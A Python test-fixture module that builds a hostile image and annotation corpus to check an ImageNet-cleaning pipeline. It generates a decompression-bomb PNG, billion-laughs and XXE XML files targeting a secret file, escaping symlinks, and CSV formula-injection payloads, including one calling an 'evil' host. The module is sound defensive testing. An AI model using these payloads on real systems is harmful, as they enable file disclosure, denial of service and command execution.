"""Build a corpus of hostile dataset files into a folder (issue 8).

:func:`build_corpus` writes, under ``base``:

* ``dataset/train/<wnid>/...``: images in the ImageNet train layout, one per
  kind of trouble (truncated, zero-byte, wrong magic, CMYK, 16-bit PNG,
  animated GIF, EXIF-rotated, decompression bomb, names with spaces, unicode
  and spreadsheet formulas, symlinks pointing outside the dataset root);
* ``dataset/train_boxes/<wnid>/*.xml``: VOC files, two of them hostile
  (billion-laughs entity expansion, an external entity naming a secret file);
* ``dataset/val/*.JPEG`` + ``dataset/LOC_val_solution.csv``: flat validation
  files labelled by a Kaggle CSV whose cells carry formulas and unknown ids;
* ``outside/``: files OUTSIDE the dataset root holding :data:`SECRET`, that no
  stage may ever read or copy.

Each image comes with what a correct pipeline must do with it (:class:`Expect`):
be usable (``ok``) or be reported with a reason starting with a given prefix.
Everything is seeded and tiny (a few KiB in all, built in milliseconds).
"""
from __future__ import annotations

import contextlib
import os
import struct
import sys
import zlib
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
from PIL import Image

from imagenet_clean.classes import ClassList, write_classes

W1, W2, W3 = "n00000001", "n00000002", "n00000003"
CLASSES = ClassList((W1, W2, W3), ("one", "two", "three"))
SECRET = "TOPSECRET-8d1f2c"
"""Text stored only outside the dataset root; must never appear in any output."""
FORMULA = "=cmd|' /C calc'!A0"
"""A spreadsheet formula-injection payload (CSV injection)."""
UNICODE_NAME = "name with spaces ünïcödé 日本 .JPEG"
FORMULA_NAME = f"{FORMULA}.JPEG"
SYMLINK_OUTSIDE = "symlink outside the dataset root"
"""Reason prefix the issue asks for: a link leaving the root is reported, never followed."""


@dataclass(frozen=True)
class Expect:
    """What the pipeline must make of one file.

    Attributes:
        status: ``ok`` or ``error``.
        reason: For errors, the prefix the manifest's ``reason`` must start with.
        rgb_size: For usable images, ``(width, height)`` that ``load_rgb`` must return
            (EXIF orientation applied).
    """

    status: str
    reason: str = ""
    rgb_size: tuple[int, int] | None = None


@dataclass
class Corpus:
    """Paths of a built corpus and the expectation per manifest ``sample_id``."""

    base: Path
    root: Path
    boxes: Path
    val_root: Path
    val_csv: Path
    outside: Path
    classes_tsv: Path
    train: dict[str, Expect] = field(default_factory=dict)
    val: dict[str, Expect] = field(default_factory=dict)
    # Symlinks that leave the root (their expectation depends on the agreed policy).
    escaping: list[str] = field(default_factory=list)


def _pixels(size: tuple[int, int], seed: int) -> np.ndarray:
    rng = np.random.default_rng(seed)
    return rng.integers(0, 256, (size[1], size[0], 3), dtype=np.uint8)


def write_jpeg(path: Path, size=(24, 16), seed=0, mode="RGB", **kw) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.fromarray(_pixels(size, seed)).convert(mode).save(path, format="JPEG", **kw)
    return path


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def bomb_png(width: int = 60_000, height: int = 60_000) -> bytes:
    """A ~100-byte PNG that declares ``width x height`` pixels (a decompression bomb)."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit grayscale
    idat = zlib.compress(b"\x00" * 64)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def png16(path: Path, size=(20, 12)) -> Path:
    """A 16-bit grayscale PNG: a horizontal ramp over the full 0..65535 range."""
    ramp = np.linspace(0, 65535, size[0]).astype(np.uint16)
    arr = np.tile(ramp, (size[1], 1))
    Image.fromarray(arr).save(path, format="PNG")  # uint16 -> mode I;16
    return path


def animated_gif(path: Path, size=(18, 14), frames: int = 3) -> Path:
    ims = [Image.fromarray(_pixels(size, s)).convert("P") for s in range(frames)]
    ims[0].save(path, format="GIF", save_all=True, append_images=ims[1:], duration=50, loop=0)
    return path


def exif_rotated(path: Path, size=(30, 10)) -> Path:
    """A ``size`` JPEG whose EXIF orientation (6) says: rotate 90 degrees to display."""
    arr = np.zeros((size[1], size[0], 3), np.uint8)
    arr[:, :5] = 255  # a white band on the left of the stored pixels
    im = Image.fromarray(arr)
    exif = im.getexif()
    exif[0x0112] = 6
    im.save(path, format="JPEG", exif=exif, quality=95)
    return path


def laughs_xml(depth: int = 10) -> str:
    """A billion-laughs VOC file: ``depth`` levels of 10x entity expansion."""
    ents = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, depth)]
    return ('<?xml version="1.0"?>\n<!DOCTYPE annotation [' + "".join(ents) + "]>\n"
            f"<annotation><object><name>&lol{depth - 1};</name>"
            "<bndbox><xmin>1</xmin><ymin>1</ymin><xmax>5</xmax><ymax>5</ymax></bndbox></object></annotation>\n")


def xxe_xml(target: Path) -> str:
    """A VOC file whose class name is an external entity reading ``target``."""
    return ('<?xml version="1.0"?>\n'
            f'<!DOCTYPE annotation [<!ENTITY x SYSTEM "file://{target}">]>\n'
            "<annotation><object><name>&x;</name>"
            "<bndbox><xmin>1</xmin><ymin>1</ymin><xmax>5</xmax><ymax>5</ymax></bndbox></object></annotation>\n")


def voc_xml(wnid: str, box=(1, 2, 10, 12)) -> str:
    b = "".join(f"<{k}>{v}</{k}>" for k, v in zip(("xmin", "ymin", "xmax", "ymax"), box))
    return f"<annotation><object><name>{wnid}</name><bndbox>{b}</bndbox></object></annotation>\n"


def build_corpus(base: str | Path) -> Corpus:
    """Write the hostile corpus under ``base`` and return its paths and expectations.

    Args:
        base: An empty (or missing) folder, e.g. pytest's ``tmp_path``.
    """
    base = Path(base)
    ds, outside = base / "dataset", base / "outside"
    root, boxes, val = ds / "train", ds / "train_boxes", ds / "val"
    for d in (root / W1, root / W2, boxes / W1, val, outside / "folder"):
        d.mkdir(parents=True, exist_ok=True)
    c = Corpus(base, root, boxes, val, ds / "LOC_val_solution.csv", outside, ds / "classes.tsv")
    write_classes(c.classes_tsv, CLASSES)

    # Files outside the root: a valid image and a secret text, both must stay unread.
    write_jpeg(outside / "secret.JPEG", seed=99)
    (outside / "secret.txt").write_text(SECRET + "\n")
    write_jpeg(outside / "folder" / f"{W1}_outside.JPEG", seed=98)

    t, d1, d2 = c.train, root / W1, root / W2
    write_jpeg(d1 / f"{W1}_good.JPEG", seed=1)
    t[f"{W1}/{W1}_good.JPEG"] = Expect("ok", rgb_size=(24, 16))
    data = write_jpeg(d1 / "trunc.JPEG", size=(64, 64), seed=2).read_bytes()
    (d1 / "trunc.JPEG").write_bytes(data[: len(data) // 2])
    t[f"{W1}/trunc.JPEG"] = Expect("error", "truncated file")
    (d1 / "zero.JPEG").write_bytes(b"")
    t[f"{W1}/zero.JPEG"] = Expect("error", "empty file")
    data = write_jpeg(d1 / "magic.JPEG", seed=3).read_bytes()
    (d1 / "magic.JPEG").write_bytes(b"\x00\x00\x00\x00" + data[4:])  # JPEG body, wrong magic
    t[f"{W1}/magic.JPEG"] = Expect("error", "not an image")
    (d1 / "script.JPEG").write_bytes(b"#!/bin/sh\necho pwned\n")
    t[f"{W1}/script.JPEG"] = Expect("error", "not an image")
    write_jpeg(d1 / "cmyk.JPEG", mode="CMYK", seed=4)
    t[f"{W1}/cmyk.JPEG"] = Expect("ok", rgb_size=(24, 16))
    png16(d1 / "deep.png")
    t[f"{W1}/deep.png"] = Expect("ok", rgb_size=(20, 12))
    animated_gif(d1 / "anim.gif")
    t[f"{W1}/anim.gif"] = Expect("ok", rgb_size=(18, 14))
    exif_rotated(d1 / "rotated.JPEG")
    t[f"{W1}/rotated.JPEG"] = Expect("ok", rgb_size=(10, 30))
    (d1 / "bomb.png").write_bytes(bomb_png())
    t[f"{W1}/bomb.png"] = Expect("error", "decompression bomb")
    write_jpeg(d2 / UNICODE_NAME, seed=5)
    t[f"{W2}/{UNICODE_NAME}"] = Expect("ok", rgb_size=(24, 16))
    write_jpeg(d2 / FORMULA_NAME, seed=6)
    t[f"{W2}/{FORMULA_NAME}"] = Expect("ok", rgb_size=(24, 16))

    # Symlinks: one inside the root (harmless), two leaving it (a file and a folder), one dangling.
    (d2 / "inside_link.JPEG").symlink_to(d1 / f"{W1}_good.JPEG")
    t[f"{W2}/inside_link.JPEG"] = Expect("ok", rgb_size=(24, 16))
    (d2 / "escape.JPEG").symlink_to(outside / "secret.JPEG")
    (d2 / "escape_dir").symlink_to(outside / "folder", target_is_directory=True)
    (d2 / "escape_txt.JPEG").symlink_to(outside / "secret.txt")
    c.escaping = [f"{W2}/escape.JPEG", f"{W2}/escape_dir", f"{W2}/escape_txt.JPEG"]
    (d2 / "dangling.JPEG").symlink_to(base / "does-not-exist.JPEG")

    # VOC boxes: one good, one billion-laughs, one external entity reading the secret.
    (boxes / W1 / f"{W1}_good.xml").write_text(voc_xml(W1))
    (boxes / W1 / "trunc.xml").write_text(laughs_xml())
    (boxes / W1 / "cmyk.xml").write_text(xxe_xml(outside / "secret.txt"))
    (boxes / W1 / "rotated.xml").write_text(voc_xml(W1, (0, 0, 9, 29)))

    # Flat validation files labelled by a CSV with formulas and unknown ids.
    for i in range(1, 5):
        write_jpeg(val / f"ILSVRC2012_val_{i:08d}.JPEG", seed=10 + i)
    c.val_csv.write_text(
        "ImageId,PredictionString\n"
        f"ILSVRC2012_val_00000001,{W1} 1 1 8 8\n"
        f'ILSVRC2012_val_00000002,"=HYPERLINK(""http://evil/""&A1) 1 1 2 2"\n'  # formula as the class id
        f"ILSVRC2012_val_00000003,n99999999 1 1 2 2\n"  # unknown class id
        f'"{FORMULA}",{W2} 1 1 2 2\n'  # formula as the image id
        f"@SUM(1+1)*cmd|' /C calc'!A0,{W2} 1 1 2 2\n"
        "ILSVRC2012_val_00000004,+1+1 2 3 4 5\n"
    )
    c.val = {
        "ILSVRC2012_val_00000001.JPEG": Expect("ok", rgb_size=(24, 16)),
        "ILSVRC2012_val_00000002.JPEG": Expect("error", "unknown class"),
        "ILSVRC2012_val_00000003.JPEG": Expect("error", "unknown class"),
        "ILSVRC2012_val_00000004.JPEG": Expect("error", "unknown class"),
    }
    return c


def tiny_checkpoint(path: str | Path, *, arch: str = "resnet10t", num_classes: int = 3, seed: int = 0) -> Path:
    """A seeded, untrained ``arch`` model for 32 px inputs, saved as safetensors at ``path``."""
    import torch

    from imagenet_clean.config import ModelConfig
    from imagenet_clean.models.factory import build_model, save_checkpoint

    torch.manual_seed(seed)
    model, _ = build_model(ModelConfig(arch=arch, weights="train", input_size=(3, 32, 32)), num_classes=num_classes)
    save_checkpoint(model, path)
    return Path(path)


def text_of_tree(folder: str | Path) -> bytes:
    """All bytes of every regular file under ``folder`` (links not followed), to search for leaks."""
    out = []
    for p in sorted(Path(folder).rglob("*")):
        if p.is_file() and not p.is_symlink():
            out.append(p.read_bytes())
    return b"\n".join(out)


# ------------------------------------------------------------------ audit of file access

_EVENTS: list[tuple[str, str, bool]] | None = None  # (event, path, writes) while recording


def _audit(event: str, args) -> None:
    if _EVENTS is None or event not in ("open", "os.scandir", "os.listdir", "shutil.copyfile", "os.rename", "os.replace",
                                         "os.remove", "os.symlink", "os.link", "os.mkdir"):
        return
    path = args[0] if args else None
    if isinstance(path, int) or path is None:
        return
    if isinstance(path, bytes):
        path = os.fsdecode(path)
    # (source, destination) events: the source is read (a copy, a link) or moved away (rename), the destination written
    writes = event not in ("open", "os.scandir", "os.listdir", "shutil.copyfile", "os.link", "os.symlink")
    if event == "open":
        mode, flags = (args[1] if len(args) > 1 else "r") or "r", (args[2] if len(args) > 2 else 0) or 0
        writes = any(c in str(mode) for c in "wax+") or bool(flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT))
    _EVENTS.append((event, os.path.realpath(str(path)), writes))
    if event in ("shutil.copyfile", "os.rename", "os.replace", "os.link", "os.symlink") and len(args) > 1:
        _EVENTS.append((event, os.path.realpath(os.fsdecode(args[1])), True))


sys.addaudithook(_audit)


@contextlib.contextmanager
def audited():
    """Record ``(event, realpath, writes)`` of every file opened, listed or moved in this process."""
    global _EVENTS
    events: list[tuple[str, str, bool]] = []
    _EVENTS = events
    try:
        yield events
    finally:
        _EVENTS = None


def under(path: str, folder: str | Path) -> bool:
    """Whether the real path ``path`` is ``folder`` or inside it."""
    folder = os.path.realpath(folder)
    return path == folder or path.startswith(folder + os.sep)


# ------------------------------------------------------------------ a tiny project for subprocess runs

TIMING_FIELDS = ("seconds", "files_per_s")
"""Metrics fields that measure time: the only ones allowed to differ between two runs."""
TINY_GENERATE = {"n_train": 60, "n_val": 30, "n_v2": 30, "image_size": 32}


def write_tiny_project(folder: str | Path, *, params_src: str | Path | None = None, **generate) -> Path:
    """A project folder with the repository's params.yaml shrunk to a seconds-long embedded set.

    Args:
        folder: Where to write ``params.yaml`` (created).
        params_src: The params file to start from (default: the repository's).
        **generate: Overrides of ``generate.*`` (default :data:`TINY_GENERATE`).
    """
    import yaml

    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    src = Path(params_src) if params_src else Path(__file__).resolve().parents[1] / "params.yaml"
    p = yaml.safe_load(src.read_text())
    p["generate"].update({**TINY_GENERATE, **generate})
    p["ingest"]["workers"] = 1
    (folder / "params.yaml").write_text(yaml.safe_dump(p, sort_keys=False))
    return folder


def tree_bytes(folder: str | Path) -> dict[str, bytes]:
    """``relative path -> bytes`` of every regular file under ``folder`` (empty when it is missing)."""
    folder = Path(folder)
    if not folder.exists():
        return {}
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def metrics_without_timing(path: str | Path) -> dict:
    """A metrics JSON with the :data:`TIMING_FIELDS` removed."""
    import json

    return {k: v for k, v in json.loads(Path(path).read_text()).items() if k not in TIMING_FIELDS}


def manifest_without_mtime(path: str | Path):
    """A manifest's rows (a DataFrame) without ``mtime_ns``, plus its schema metadata, for comparison."""
    import pyarrow.parquet as pq

    t = pq.read_table(path)
    return t.drop(["mtime_ns"]).to_pandas(), t.schema.metadata


def run_main(args: list[str], capsys) -> tuple[int, str, str]:
    """Run the real ``imagenet-clean`` entry point in-process: ``(exit code, stdout, stderr)``."""
    from imagenet_clean.cli import main

    try:
        main(args)
        code = 0
    except SystemExit as e:
        code = e.code if isinstance(e.code, int) else 1
    out = capsys.readouterr()
    return code, out.out, out.err
